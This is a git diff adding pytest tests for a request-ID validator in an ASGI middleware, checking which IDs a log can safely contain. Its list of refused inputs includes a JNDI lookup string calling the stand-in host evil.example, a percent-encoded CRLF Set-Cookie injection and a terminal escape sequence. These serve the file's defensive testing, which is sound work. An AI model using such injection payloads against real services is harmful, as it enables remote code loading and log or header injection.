@@ -1,13 +1,17 @@
 """How IDs are generated and recognized."""
 
 import re
+import string
 import subprocess
 import sys
 import time
+from random import Random
 
 import pytest
 
-from asgi_middleware import generate_request_id, is_uuid, uuid7_hex
+from asgi_middleware import generate_request_id, is_uuid, is_valid_request_id, uuid7_hex
+
+from .formats import FORMATS
 
 
 def test_generated_ids_differ() -> None:
@@ -63,3 +67,90 @@ def test_two_uuid7s_of_one_millisecond_differ() -> None:
 )
 def test_only_uuids_are_uuids(request_id: str, accepted: bool) -> None:
     assert is_uuid(request_id) is accepted
+
+
+@pytest.mark.parametrize(("source", "request_id"), FORMATS, ids=[source for source, _ in FORMATS])
+def test_the_id_of_each_source_is_valid(source: str, request_id: str) -> None:
+    assert is_valid_request_id(request_id)
+
+
+LETTERS_AND_DIGITS = string.ascii_letters + string.digits
+# The alphabets that generators of IDs draw from, and how many characters they draw.
+ALPHABETS = {
+    "decimal": (string.digits, 19),
+    "hexadecimal": (string.hexdigits, 32),
+    "Crockford's base32": ("0123456789ABCDEFGHJKMNPQRSTVWXYZ", 26),
+    "base36": (string.digits + string.ascii_lowercase, 25),
+    "base58": ("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 22),
+    "base62": (LETTERS_AND_DIGITS, 27),
+    "base64": (LETTERS_AND_DIGITS + "+/", 22),
+    "base64url": (LETTERS_AND_DIGITS + "-_", 21),
+    "unreserved characters of a URL": (LETTERS_AND_DIGITS + "-._~", 20),
+    "Apache's mod_unique_id": (LETTERS_AND_DIGITS + "@-", 24),
+}
+
+
+@pytest.mark.parametrize("name", ALPHABETS)
+def test_no_random_id_is_refused(name: str) -> None:
+    alphabet, length = ALPHABETS[name]
+    random = Random(name)
+
+    refused = [
+        request_id
+        for first in alphabet
+        for _ in range(20)
+        if not is_valid_request_id(
+            request_id := first + "".join(random.choices(alphabet, k=length))
+        )
+    ]
+
+    assert refused == []
+
+
+HEROKUS = "f9ed4675f1c53513c61a3b3b4e25b4c0"
+# Blanks, what could end a field of a log line, markup, what a viewer could decode or expand.
+MISREAD = [
+    *(chr(code) for code in (*range(0x21), 0x7F, 0x85, 0xA0, 0xE9, 0x2028, 0x212A, 0x1F600)),
+    *"\"'`,\\<>%$&(){}[]*^",
+]
+
+
+@pytest.mark.parametrize("around", ["{}", "{}b", "a{}", "a{}b", HEROKUS + "{}" + "0" * 19])
+def test_what_could_be_misread_in_a_log_is_refused(around: str) -> None:
+    accepted = [each for each in MISREAD if is_valid_request_id(around.replace("{}", each))]
+
+    assert accepted == []
+
+
+@pytest.mark.parametrize(
+    ("request_id", "accepted"),
+    [
+        pytest.param("a" * 200, True, id="200 characters"),
+        pytest.param("a" * 201, False, id="201 characters"),
+        pytest.param("", False, id="empty"),
+        pytest.param("-", False, id="what Envoy sends in place of an ID"),
+        pytest.param("-" * 200, False, id="no letter and no digit"),
+        pytest.param("-" * 199 + "a", True, id="one letter"),
+        pytest.param("abc\n", False, id="line break at the end"),
+        pytest.param("${jndi:ldap://evil.example/a}", False, id="an expression"),
+        pytest.param("abc%0d%0aset-cookie:a", False, id="percent-encoded"),
+        pytest.param("\x1b[31mabc", False, id="escape sequence of a terminal"),
+        pytest.param(f"{HEROKUS},{HEROKUS},{HEROKUS}", True, id="three of Heroku"),
+        pytest.param(",".join([HEROKUS] * 6), True, id="197 characters of Heroku"),
+        pytest.param(",".join([HEROKUS] * 7), False, id="230 characters of Heroku"),
+        pytest.param(f"{HEROKUS},", False, id="comma at the end"),
+        pytest.param(f",{HEROKUS}", False, id="comma at the start"),
+        pytest.param(f"{HEROKUS},,{HEROKUS}", False, id="two commas"),
+        pytest.param(f"{HEROKUS}, {HEROKUS}", False, id="blank after the comma"),
+        pytest.param(f"{HEROKUS},abc", False, id="list of anything else"),
+        pytest.param("a,b", False, id="list of two letters"),
+    ],
+)
+def test_an_id_is_valid_if_a_log_can_contain_it(request_id: str, accepted: bool) -> None:
+    assert is_valid_request_id(request_id) is accepted
+
+
+@pytest.mark.parametrize("part", ["a", "-", ",", "a,", HEROKUS + ",", " ", "|"])
+def test_ten_megabytes_are_refused_at_once(part: str) -> None:
+    # A regular expression that tries again from each character would not come to an end.
+    assert not is_valid_request_id(part * (10_000_000 // len(part)))
